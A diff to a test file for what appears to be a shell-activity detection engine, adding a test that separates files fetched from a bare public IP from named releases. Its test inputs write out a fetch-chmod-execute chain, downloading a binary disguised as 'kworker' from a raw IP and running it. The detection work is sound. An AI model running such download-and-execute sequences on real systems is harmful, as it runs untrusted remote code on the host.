@@ -128,7 +128,7 @@ def test_a_file_a_download_names_after_its_url_is_followed_to_its_run(engine):
     """`wget URL` and `curl -O URL` save the URL's last segment: making that executable and running it is the
     download's chain."""
     session = Session()
-    events = [session.exec("wget -q http://203.0.113.9/kworker", 100, "bash"),
+    events = [session.exec("wget -q http://45.9.148.3/kworker", 100, "bash"),
               session.exec("chmod +x kworker", 100, "bash"),
               session.exec("./kworker", 100, "bash", path="/home/u/kworker")]
     verdicts = _score(engine, events)
@@ -137,6 +137,23 @@ def test_a_file_a_download_names_after_its_url_is_followed_to_its_run(engine):
     assert any(r.startswith("runs /home/u/kworker, downloaded by wget, then made executable") for r in
                verdicts[2].reasons), verdicts[2]
     assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident
+
+
+def test_how_a_file_arrived_decides_how_much_running_it_counts(engine):
+    """Outside temp and hidden places, a file fetched from a bare public address is as suspect as one in /tmp;
+    a release fetched by name, made executable and run in a home directory is an install, not an alert."""
+    def install(url: str) -> list:  # type: ignore[type-arg]
+        session = Session()
+        return _score(engine, [session.exec(f"curl -sLO {url}", 100, "bash"),
+                               session.exec("chmod +x tool", 100, "bash"),
+                               session.exec("./tool --version", 100, "bash", path="/home/u/tool")])
+
+    dropped = install("http://45.9.148.3/tool")
+    assert [v.severity for v in dropped] == ["alert"] * 3, dropped
+    assert any(r.startswith("runs /home/u/tool, downloaded by curl") for r in dropped[2].reasons)
+    released = install("https://releases.example.org/v1.2/tool")
+    assert [v.severity for v in released] != ["alert"] * 3 and released[1].severity != "alert", released
+    assert any(r.startswith("runs /home/u/tool, downloaded by curl") for r in released[2].reasons)
 
 
 def test_a_download_that_looks_routine_joins_the_incident_its_file_starts(engine):
